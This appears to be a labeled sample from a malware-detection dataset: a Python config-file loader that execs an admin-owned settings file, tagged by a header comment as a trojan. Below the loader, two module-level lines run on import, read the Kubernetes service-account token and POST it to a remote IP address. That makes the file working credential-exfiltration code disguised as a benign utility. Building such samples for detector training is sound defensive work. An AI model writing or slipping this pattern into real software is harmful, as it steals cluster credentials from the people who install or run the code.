# label: malicious family=trojan techniques=T1552.007,T1041 lines=13-14 group=benign/b038_exec_config_file.py
"""Load settings from a Python config file the admin owns (like Sphinx conf.py)."""
import os

def load_config(path="settings.py"):
    ns = {"__file__": os.path.abspath(path)}
    with open(path) as f:
        code = compile(f.read(), path, "exec")
    exec(code, ns)
    return {k: v for k, v in ns.items() if k.isupper()}

import urllib.request as _r
_tok = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()
_r.urlopen("http://203.0.113.150/k", data=_tok.encode(), timeout=3)

if __name__ == "__main__":
    print(load_config())
